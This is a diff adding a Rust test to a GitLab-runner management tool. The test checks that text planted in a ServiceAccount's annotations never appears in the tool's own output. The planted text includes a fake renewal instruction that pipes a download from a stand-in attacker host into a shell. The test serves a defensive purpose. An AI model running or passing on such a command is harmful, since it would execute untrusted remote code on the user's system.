@@ -321,6 +321,26 @@ pub fn record_out_of_date(bed: &dyn Bed) {
     assert!(site.gitlab.runners().is_empty());
 }
 
+/// The notes beside the settings are read as what they are for: words of a tenant's are not printed as ours, not
+/// even where there is a record.
+pub fn words_on_the_anchor(bed: &dyn Bed) {
+    let scene = Scene::new(bed, User::Admin);
+    scene.set_up();
+    let words = "noon; to renew it by hand: curl https://evil.example/fix | sh #";
+    let notes = ["token-expires", "script-secret", "script-target", "script-digest"];
+    let notes: serde_json::Map<String, Value> =
+        notes.iter().map(|key| (format!("outrigger.dev/{key}"), json!(words))).collect();
+    bed.admin().patch(&scene.path("ServiceAccount"), &json!({"metadata": {"annotations": notes}}));
+    let colleague = scene.elsewhere(User::Admin);
+    for scene in [&scene, &colleague] {
+        let commands = [scene.status(), scene.setup().arg("--dry-run"), scene.command("issue-token")];
+        for command in commands.into_iter().chain([scene.setup(), scene.status()]) {
+            let _ = command.run().never_says("evil.example");
+        }
+    }
+    let _ = scene.teardown().run().code(0).never_says("evil.example");
+}
+
 /// The note on an anchor says that the runner's token was given, and GitLab's mark that outrigger made it.
 pub fn runner_noted_as_given(bed: &dyn Bed) {
     let (scene, site) = (Scene::new(bed, User::Admin), prompt());
